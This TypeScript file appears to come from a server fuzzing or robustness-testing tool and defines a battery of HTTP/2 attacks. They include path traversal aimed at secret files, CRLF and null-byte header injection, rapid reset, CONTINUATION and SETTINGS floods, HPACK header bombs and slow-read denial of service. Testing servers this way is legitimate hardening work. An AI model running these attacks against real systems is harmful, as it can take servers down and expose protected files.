import { setTimeout as sleep } from 'node:timers/promises';
import { mutated } from '../../fuzz-importers/mutation.ts';
import { type Attack, type AttackContext, hasTime, type Target } from '../attack.ts';
import { connections, oneEach, SHORT_MS, slow } from '../connections.ts';
import {
  FLAG,
  FRAME,
  fieldBlock,
  frame,
  keptField,
  NEWEST_KEPT_FIELD,
  PREFACE,
  requestFields,
  SETTING,
  settings,
  word,
} from '../http2-frames.ts';
import { hostileFieldPath, METHODS } from '../paths.ts';
import { dialTls, type Wire } from '../wire.ts';

const WHOLE = FLAG.endHeaders | FLAG.endStream;
const LARGEST_WINDOW = 0x7fffffff;
/** A frame that any server accepts. */
const FRAME_BYTES = 16_384;

/** Attacks on an HTTP/2 server. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: 'paths out of the folder',
    run: (context) =>
      connections(context, 4, dial, async (wire) => {
        const { choices, target } = context;
        for (let stream = 1; stream < 80 && !wire.closed; stream += 2) {
          const path = hostileFieldPath(choices, target.secretFiles, target.host);
          const method = choices.pick(METHODS);
          const fields = requestFields(target.host, path, method);
          await wire.write(frame(FRAME.headers, WHOLE, stream, fieldBlock(fields)));
          context.sent();
          await sleep(5);
        }
        await wire.ended(SHORT_MS);
      }),
  },
  {
    name: 'malformed requests',
    run: (context) =>
      oneEach(context, 8, dial, ({ choices, target }) => {
        const fields = choices.pick(malformedFields(target.host, target.paths.small));
        return frame(FRAME.headers, WHOLE, 1, fieldBlock(fields));
      }),
  },
  {
    name: 'damaged frames',
    run: (context) =>
      oneEach(context, 8, dial, ({ choices, target }) => {
        const fields = fieldBlock(requestFields(target.host, target.paths.small));
        return mutated(
          choices,
          Buffer.concat([
            frame(FRAME.headers, FLAG.endHeaders, 1, fields),
            frame(FRAME.data, FLAG.endStream, 1, Buffer.from('hello')),
            frame(FRAME.windowUpdate, 0, 1, word(1000)),
            frame(FRAME.headers, WHOLE, 3, fields),
            frame(FRAME.ping, 0, 0, Buffer.alloc(8)),
            frame(FRAME.settings, 0, 0, settings([SETTING.window, 10], [SETTING.tableSize, 0])),
          ]),
        );
      }),
  },
  {
    name: 'frames out of place',
    run: (context) =>
      oneEach(context, 8, dial, ({ choices }) => {
        const size = choices.pick([
          0,
          1,
          4,
          5,
          6,
          8,
          9,
          100,
          FRAME_BYTES,
          FRAME_BYTES + 1,
          100_000,
        ]);
        const stream = choices.pick([0, 0, 1, 2, 3, 0x7fffffff, 0xffffffff]);
        const length = choices.pick([undefined, undefined, 0, 0xffffff, size + 1]);
        const payload = choices.chance(50)
          ? Buffer.alloc(size)
          : choices.bytes(Math.min(size, 500));
        return frame(choices.number(14), choices.number(256), stream, payload, length);
      }),
  },
  flood('SETTINGS floods', () => frame(FRAME.settings, 0, 0, settings([SETTING.streams, 100]))),
  flood('SETTINGS with many entries', ({ choices }) => {
    const pairs = Array.from(
      { length: 2000 },
      () => [choices.number(65_536), choices.number(2 ** 31)] as const,
    );
    return frame(FRAME.settings, 0, 0, settings(...pairs.filter(([id]) => id > 6)));
  }),
  flood('PING floods', () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  flood('PRIORITY floods', ({ choices }) =>
    frame(FRAME.priority, 0, 1 + 2 * choices.number(100_000), Buffer.from([0, 0, 0, 0, 16])),
  ),
  flood('frames of unknown types', ({ choices }) =>
    frame(20 + choices.number(200), 0, 0, Buffer.alloc(100)),
  ),
  flood('WINDOW_UPDATE floods', ({ choices }) =>
    frame(FRAME.windowUpdate, 0, 0, word(choices.pick([1, 1, 1, 1, 0, LARGEST_WINDOW]))),
  ),
  flood('window sizes to and fro', ({ choices }) =>
    frame(
      FRAME.settings,
      0,
      0,
      settings([SETTING.window, choices.pick([0, 1, 65_535, LARGEST_WINDOW])]),
    ),
  ),
  flood('header table sizes to and fro', ({ choices }) =>
    frame(FRAME.settings, 0, 0, settings([SETTING.tableSize, choices.pick([0, 1, 4096, 2 ** 31])])),
  ),
  {
    name: 'rapid reset',
    run: (context) =>
      streams(context, (stream, { target }) =>
        Buffer.concat([
          wholeGet(stream, target, target.paths.large),
          frame(FRAME.reset, 0, stream, word(8)),
        ]),
      ),
  },
  {
    name: 'streams never ended',
    run: (context) => streams(context, (stream, { target }) => postHead(stream, target)),
  },
  {
    name: 'resets made by the server',
    run: (context) =>
      streams(context, (stream, { target }) =>
        Buffer.concat([
          postHead(stream, target),
          // A window increment of zero is invalid: the server has to reset the stream itself.
          frame(FRAME.windowUpdate, 0, stream, word(0)),
        ]),
      ),
  },
  {
    name: 'CONTINUATION floods',
    run: (context) =>
      endless(
        context,
        ({ target }) =>
          frame(FRAME.headers, FLAG.endStream, 1, fieldBlock(requestFields(target.host, '/'))),
        ({ choices }) =>
          frame(
            FRAME.continuation,
            0,
            1,
            choices.chance(20)
              ? Buffer.alloc(0)
              : fieldBlock([[`x-${choices.number(1e6)}`, 'x'.repeat(16_000)]]),
          ),
      ),
  },
  {
    name: 'empty DATA floods',
    run: (context) =>
      endless(context, beginPost, () =>
        Buffer.concat(Array.from({ length: 500 }, () => frame(FRAME.data, 0, 1))),
      ),
  },
  {
    name: 'padding alone',
    run: (context) =>
      endless(context, beginPost, () =>
        frame(
          FRAME.data,
          FLAG.padded,
          1,
          Buffer.alloc(256, Buffer.from([255, ...new Array(255).fill(0)])),
        ),
      ),
  },
  {
    name: 'huge bodies beyond every window',
    run: (context) =>
      endless(context, beginPost, () => frame(FRAME.data, 0, 1, Buffer.alloc(FRAME_BYTES))),
  },
  {
    name: 'header bombs',
    run: (context) =>
      streams(context, (stream, { target }) =>
        frame(
          ...([FRAME.headers, WHOLE, stream] as const),
          Buffer.concat([
            fieldBlock(requestFields(target.host, target.paths.small)),
            keptField('x-bomb', 'b'.repeat(4000)),
            // 40 MB of headers once they are unpacked.
            Buffer.alloc(10_000, NEWEST_KEPT_FIELD),
          ]),
        ),
      ),
  },
  {
    name: 'huge and many headers',
    run: (context) =>
      oneEach(context, 8, dial, ({ choices, target }) => {
        const many = Array.from({ length: 700 }, (_, index) => [`x-${index}`, 'y'] as const);
        const large = [['x-large', 'x'.repeat(15_000)]] as const;
        const fields = [
          ...requestFields(target.host, target.paths.small),
          ...choices.pick([many, large]),
        ];
        const blocks = choices.number(40);
        return Buffer.concat([
          frame(FRAME.headers, FLAG.endStream, 1, fieldBlock(fields)),
          ...Array.from({ length: blocks }, () =>
            frame(FRAME.continuation, 0, 1, fieldBlock(choices.pick([many, large]))),
          ),
          frame(FRAME.continuation, FLAG.endHeaders, 1),
        ]);
      }),
  },
  {
    name: 'tiny windows',
    run: (context) =>
      slow(context, dial, async (wire, { target, choices }) => {
        await wire.write(
          frame(FRAME.settings, 0, 0, settings([SETTING.window, choices.pick([0, 1, 10])])),
        );
        for (let stream = 1; stream < 40; stream += 2) {
          await wire.write(wholeGet(stream, target, target.paths.large));
        }
        for (let round = 0; hasTime(context) && !wire.closed; round++) {
          await wire.write(frame(FRAME.windowUpdate, 0, 1 + 2 * (round % 20), word(1)));
          await sleep(200);
        }
      }),
  },
  {
    name: 'slow senders',
    run: (context) =>
      slow(context, dial, async (wire, { target }) => {
        for (const byte of wholeGet(1, target, '/')) {
          if (!hasTime(context) || !(await wire.write(Buffer.from([byte])))) return;
          await sleep(300);
        }
      }),
  },
  {
    name: 'slow readers',
    run: (context) =>
      slow(context, dial, async (wire, { target }) => {
        wire.socket.pause();
        for (let stream = 1; stream < 20; stream += 2) {
          await wire.write(wholeGet(stream, target, target.paths.large));
        }
        await wire.write(frame(FRAME.windowUpdate, 0, 0, word(LARGEST_WINDOW - 65_535)));
      }),
  },
];

function malformedFields(host: string, path: string): [name: string, value: string][][] {
  const good = requestFields(host, path);
  return [
    [],
    good.slice(1),
    good.slice(0, 3),
    [...good, [':path', '/other']],
    [...good, [':status', '200']],
    [...good, [':unknown', 'x']],
    [['x', 'before'], ...good],
    [...good, ['Upper', 'case']],
    [...good, ['connection', 'keep-alive']],
    [...good, ['transfer-encoding', 'chunked']],
    [...good, ['te', 'gzip']],
    [...good, ['', 'no name']],
    [...good, ['x\r\ny', 'z']],
    [...good, ['x', 'a\r\nb: c']],
    [...good, ['x', 'a\0b']],
    [...good, ['content-length', '100']],
    [...good, ['content-length', '-1']],
    [...good, ['host', 'another.test']],
    [...good, ['range', 'bytes=0-0,0-0,5-1,99999999999999999999-']],
    [...good, ['if-modified-since', 'Sun, 99 Foo 99999 99:99:99 GMT']],
    requestFields('', path),
    requestFields('[::1', path),
    requestFields('a b@c:d:e', path),
    requestFields('../../', path),
    requestFields(host, ''),
    requestFields(host, '*', 'OPTIONS'),
    requestFields(host, 'no-slash'),
    requestFields(host, '/\xff\xfe'),
    requestFields(host, path, ''),
    requestFields(host, path, 'G T'),
    requestFields(host, path, 'CONNECT'),
    requestFields(host, path, 'TRACE'),
    [
      [':method', 'CONNECT'],
      [':authority', `${host}:443`],
    ],
    [
      ...requestFields(host, path, 'OPTIONS'),
      ['origin', '\xff'],
      ['access-control-request-method', 'GET'],
      ['access-control-request-headers', '\xff'],
    ],
  ];
}

/** A whole request. */
function wholeGet(stream: number, { host }: Target, path: string): Buffer {
  return frame(FRAME.headers, WHOLE, stream, fieldBlock(requestFields(host, path)));
}

/** A request whose body is still missing. */
function postHead(stream: number, { host, paths }: Target): Buffer {
  const fields = requestFields(host, paths.small, 'POST');
  return frame(FRAME.headers, FLAG.endHeaders, stream, fieldBlock(fields));
}

/** A connection after the HTTP/2 preface. */
async function dial(context: AttackContext): Promise<Wire | null> {
  const wire = await dialTls(context, 'h2');
  await wire?.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0)]));
  return wire;
}

const FRAMES_AT_ONCE = 200;

/** The same kind of frame as often as the server accepts it. */
function flood(name: string, make: (context: AttackContext) => Buffer): Attack {
  return {
    name,
    run: (context) =>
      connections(context, 2, dial, async (wire) => {
        for (let pieces = 0; pieces < 500; pieces++) {
          const piece = Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, () => make(context)));
          if (!(await wire.write(piece))) break;
          context.sent(FRAMES_AT_ONCE);
        }
      }),
  };
}

/** One stream after the other, as many as the server accepts. */
function streams(
  context: AttackContext,
  make: (stream: number, context: AttackContext) => Buffer,
): Promise<void> {
  return connections(context, 2, dial, async (wire) => {
    for (let stream = 1; stream < 20_000; stream += 2) {
      if (!(await wire.write(make(stream, context)))) break;
      context.sent();
    }
    await wire.ended(SHORT_MS);
  });
}

function beginPost({ target }: AttackContext): Buffer {
  return postHead(1, target);
}

/** One endless stream. */
function endless(
  context: AttackContext,
  begin: (context: AttackContext) => Buffer,
  more: (context: AttackContext) => Buffer,
): Promise<void> {
  return connections(context, 3, dial, async (wire) => {
    await wire.write(begin(context));
    for (let pieces = 0; pieces < 3000; pieces++) {
      if (!(await wire.write(more(context)))) break;
      context.sent();
    }
  });
}
